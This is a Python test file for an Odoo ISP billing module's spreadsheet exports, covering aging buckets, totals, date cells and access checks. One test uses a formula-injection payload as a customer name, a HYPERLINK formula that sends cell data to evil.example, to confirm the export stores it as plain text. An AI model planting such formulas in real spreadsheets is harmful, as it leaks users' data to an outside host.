# Copyright 2026 ISP Suite for Odoo
# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).
import datetime
import io
import unittest
from datetime import date as d

import openpyxl

from odoo.exceptions import AccessError
from odoo.tests.common import at_install, post_install
from odoo.tools import mute_logger

from ..rules import aging as aging_rules
from .common import IspBillingCommon

BUCKET_CASES = [
    # (due date, at, days overdue, bucket)
    (d(2026, 7, 10), d(2026, 6, 30), 0, 'current'),
    (d(2026, 6, 30), d(2026, 6, 30), 0, 'current'),
    (d(2026, 6, 29), d(2026, 6, 30), 1, '1-30'),
    (d(2026, 5, 31), d(2026, 6, 30), 30, '1-30'),
    (d(2026, 5, 30), d(2026, 6, 30), 31, '31-60'),
    (d(2026, 5, 1), d(2026, 6, 30), 60, '31-60'),
    (d(2026, 4, 30), d(2026, 6, 30), 61, '61-90'),
    (d(2026, 4, 1), d(2026, 6, 30), 90, '61-90'),
    (d(2026, 3, 31), d(2026, 6, 30), 91, '90+'),
    ('2025-01-01', '2026-06-30', 545, '90+'),
]


class TestAgingRules(unittest.TestCase):

    def test_bucket_table(self):
        for date_due, date_at, days, bucket in BUCKET_CASES:
            self.assertEqual(aging_rules.days_overdue(date_due, date_at),
                             days, (date_due, date_at))
            self.assertEqual(aging_rules.bucket(date_due, date_at), bucket,
                             (date_due, date_at))


@at_install(False)
@post_install(True)
class TestXlsxExports(IspBillingCommon):

    @classmethod
    def setUpClass(cls):
        super(TestXlsxExports, cls).setUpClass()
        cls.income = cls.env['account.account'].search([
            ('user_type_id', '=',
             cls.env.ref('account.data_account_type_revenue').id)], limit=1)
        cls.bank = cls.env['account.journal'].search([
            ('type', '=', 'bank'),
            ('company_id', '=', cls.env.user.company_id.id)], limit=1)
        cls.alice = cls.env['res.partner'].create({
            'name': 'Xlsx Alice', 'customer': True})
        cls.bob = cls.env['res.partner'].create({
            'name': 'Xlsx Bob', 'customer': True})

    @staticmethod
    def _open(content, data_only=False):
        return openpyxl.load_workbook(io.BytesIO(content),
                                      data_only=data_only)

    def _render(self, xmlid, docids, data=None):
        content, kind = self.env.ref(xmlid).render_xlsx(docids, data or {})
        self.assertEqual(kind, 'xlsx')
        return self._open(content), self._open(content, data_only=True)

    def _invoice(self, partner, amount, date, date_due):
        invoice = self.env['account.invoice'].create({
            'partner_id': partner.id,
            'type': 'out_invoice',
            'date_invoice': date,
            'date_due': date_due,
            'invoice_line_ids': [(0, 0, {
                'name': 'Xlsx service', 'quantity': 1,
                'price_unit': amount, 'account_id': self.income.id})],
        })
        invoice.action_invoice_open()
        self.assertEqual(invoice.date_due, date_due)
        return invoice

    def _pay(self, invoice, amount, date):
        payment = self.env['account.payment'].create({
            'payment_type': 'inbound',
            'partner_type': 'customer',
            'partner_id': invoice.partner_id.id,
            'amount': amount,
            'journal_id': self.bank.id,
            'payment_date': date,
            'payment_method_id': self.env.ref(
                'account.account_payment_method_manual_in').id,
            'invoice_ids': [(6, 0, invoice.ids)],
        })
        payment.post()
        return payment

    @staticmethod
    def _rows(sheet, first_row):
        """Data rows (lists of cells) under the header at ``first_row``
        (1-based), up to the totals row."""
        rows = []
        for row in sheet.iter_rows(min_row=first_row + 1):
            if row[0].value == 'Total':
                return rows, row
            rows.append(row)
        raise AssertionError('no totals row')

    def test_receivables_aging_buckets_sums_and_date_cells(self):
        self._invoice(self.alice, 100.0, '2026-06-01', '2026-07-10')
        self._invoice(self.alice, 200.0, '2026-05-15', '2026-06-15')
        self._invoice(self.alice, 300.0, '2026-04-01', '2026-05-01')
        self._invoice(self.alice, 400.0, '2026-03-01', '2026-04-01')
        old = self._invoice(self.alice, 500.0, '2025-12-01', '2026-01-01')
        self._pay(old, 150.0, '2026-06-01')
        # paid after the aging date: still owed at that date
        self._pay(old, 50.0, '2026-07-05')
        paid = self._invoice(self.bob, 70.0, '2026-05-01', '2026-05-31')
        self._pay(paid, 70.0, '2026-06-10')
        self._invoice(self.bob, 80.0, '2026-06-01', '2026-06-30')
        # after the aging date: not there yet
        self._invoice(self.bob, 999.0, '2026-07-01', '2026-07-31')
        wizard = self.env['isp.receivable.aging.wizard'].create({
            'date_at': '2026-06-30'})
        action = wizard.action_export()
        self.assertEqual(action['report_name'],
                         'isp_billing.receivable_aging_xlsx')
        book, values = self._render(
            'isp_billing.isp_receivable_aging_xlsx_report', wizard.ids)
        sheet, cached = book['Aging'], values['Aging']
        self.assertEqual(sheet['D1'].value, datetime.datetime(2026, 6, 30))
        self.assertTrue(sheet['D1'].is_date)
        self.assertEqual(
            [cell.value for cell in sheet[3]],
            ['Customer code', 'Customer', 'Current', '1–30 days',
             '31–60 days', '61–90 days', 'Over 90 days', 'Total'])
        rows, total = self._rows(cached, 3)
        by_name = {row[1].value: [cell.value for cell in row[2:]]
                   for row in rows}
        self.assertEqual(by_name['Xlsx Alice'],
                         [100.0, 200.0, 300.0, 400.0, 350.0, 1350.0])
        self.assertEqual(by_name['Xlsx Bob'], [80.0, 0, 0, 0, 0, 80.0])
        for row in rows:
            self.assertTrue(all(isinstance(cell.value, (int, float))
                                for cell in row[2:]))
        # row totals and column totals are formulas holding checked sums
        formula_rows, formula_total = self._rows(sheet, 3)
        alice = [row for row in formula_rows
                 if row[1].value == 'Xlsx Alice'][0]
        self.assertEqual(alice[7].value, '=SUM(C%d:G%d)' % (
            alice[0].row, alice[0].row))
        self.assertEqual(formula_total[2].value, '=SUM(C4:C%d)' % (
            formula_total[2].row - 1))
        for col in range(2, 8):
            self.assertAlmostEqual(
                total[col].value, sum(row[col].value for row in rows), 2)
        # the open items: one line per outstanding invoice, dates as dates
        items = values['Open items']
        lines = [row for row in items.iter_rows(min_row=2)
                 if row[0].value in ('Xlsx Alice', 'Xlsx Bob')]
        self.assertEqual(len(lines), 6)
        old_line = [row for row in lines if row[6].value == 350.0][0]
        self.assertEqual(old_line[3].value, datetime.datetime(2026, 1, 1))
        self.assertTrue(old_line[3].is_date)
        self.assertEqual(old_line[4].value, 180)
        self.assertEqual(old_line[5].value, 'Over 90 days')

    @mute_logger('odoo.addons.queue_job.models.base')
    def test_billing_run_summary_per_customer_and_product(self):
        fibre = self._create_isp_product('Xlsx Fibre', 30.0)
        tv = self._create_isp_product('Xlsx TV', 10.0, isp_service_type='tv')
        for partner, product, price in ((self.alice, fibre, 30.0),
                                        (self.alice, tv, 10.0),
                                        (self.bob, fibre, 25.0)):
            subscription = self._create_subscription(
                partner, product_id=product.id, price_unit=price,
                billing_cycle_day=11)
            subscription._activate(date_start='2026-01-11')
        run = self.env['isp.billing.run'].create({
            'date': '2026-03-11', 'cycle_day': 11})
        run.with_context(test_queue_job_no_delay=True).action_start()
        self.assertEqual(len(run.invoice_ids), 2)
        book, values = self._render('isp_billing.isp_billing_run_xlsx_report',
                                    run.ids)
        rows, total = self._rows(values['Customers'], 3)
        self.assertEqual(
            sorted((row[3].value, row[4].value, row[5].value)
                   for row in rows),
            [('Xlsx Alice', 1, 40.0), ('Xlsx Bob', 1, 25.0)])
        self.assertEqual(rows[0][1].value, datetime.datetime(2026, 3, 11))
        self.assertTrue(rows[0][1].is_date)
        self.assertEqual(total[5].value, 65.0)
        self.assertEqual(total[5].value, run.amount_untaxed)
        self.assertEqual(total[7].value, sum(
            run.invoice_ids.mapped('amount_total')))
        _formula_rows, formula_total = self._rows(book['Customers'], 3)
        self.assertEqual(formula_total[5].value, '=SUM(F4:F5)')
        rows, total = self._rows(values['Products'], 3)
        self.assertEqual(
            sorted((row[2].value, row[4].value, row[5].value)
                   for row in rows),
            [('Xlsx Fibre', 2.0, 55.0), ('Xlsx TV', 1.0, 10.0)])
        self.assertEqual(total[5].value, 65.0)

    def test_subscription_list_states_numbers_and_dates(self):
        active = self._create_subscription(
            self.alice, price_unit=40.0, discount=25.0)
        active._activate(date_start='2026-02-01')
        suspended = self._create_subscription(self.bob, price_unit=20.0)
        suspended._activate(date_start='2026-03-01')
        suspended.action_suspend()
        pending = self._create_subscription(self.bob, price_unit=15.0)
        subscriptions = active | suspended | pending
        book, values = self._render('isp_billing.isp_subscription_xlsx_report',
                                    subscriptions.ids)
        rows, total = self._rows(values['Subscriptions'], 3)
        by_ref = {row[0].value: row for row in rows}
        self.assertEqual(len(rows), 3)
        row = by_ref[active.name]
        self.assertEqual(row[4].value, 'Active')
        self.assertEqual(row[5].value, datetime.datetime(2026, 2, 1))
        self.assertTrue(row[5].is_date)
        self.assertIsNone(row[6].value)
        self.assertEqual(row[11].value, 40.0)
        self.assertEqual(row[13].value, 30.0)
        self.assertEqual(by_ref[suspended.name][4].value, 'Suspended')
        self.assertEqual(by_ref[pending.name][4].value, 'Pending activation')
        self.assertEqual(total[13].value, 65.0)
        self.assertEqual(book['Subscriptions'].cell(
            row=total[13].row, column=14).value, '=SUM(N4:N6)')
        states = {row[0].value: row[1].value
                  for row in values['States'].iter_rows(min_row=4)}
        self.assertEqual(states['Active'], 1)
        self.assertEqual(states['Suspended'], 1)
        self.assertEqual(states['Pending activation'], 1)
        self.assertEqual(states['Terminated'], 0)
        self.assertEqual(states['Total'], 3)
        formulas = {row[0].value: row[1].value
                    for row in book['States'].iter_rows(min_row=4)}
        self.assertEqual(formulas['Active'],
                         "=COUNTIF('Subscriptions'!E4:E6,A5)")

    def test_text_starting_with_equals_stays_text(self):
        """A customer named like a formula is written as text: opened in a
        spreadsheet, it is not run."""
        evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
        customer = self.env['res.partner'].create(
            {'name': evil, 'customer': True})
        subscription = self._create_subscription(customer)
        book, _values = self._render(
            'isp_billing.isp_subscription_xlsx_report', subscription.ids)
        texts = [cell for row in book['Subscriptions'].iter_rows(min_row=4)
                 for cell in row if cell.value == evil]
        self.assertTrue(texts)
        self.assertEqual({cell.data_type for cell in texts}, {'s'})

    def test_export_is_refused_outside_billing(self):
        """``generate_xlsx_report`` is public: called over JSON-RPC (a
        list instead of records) or by a user without billing rights, it
        refuses before reading anything."""
        report = self.env['report.isp_billing.subscription_xlsx']
        with self.assertRaises(AccessError):
            report.generate_xlsx_report(None, {}, self.subscription.ids)
        with self.assertRaises(AccessError):
            report.sudo(self.isp_user).generate_xlsx_report(
                None, {}, self.subscription.sudo(self.isp_user))
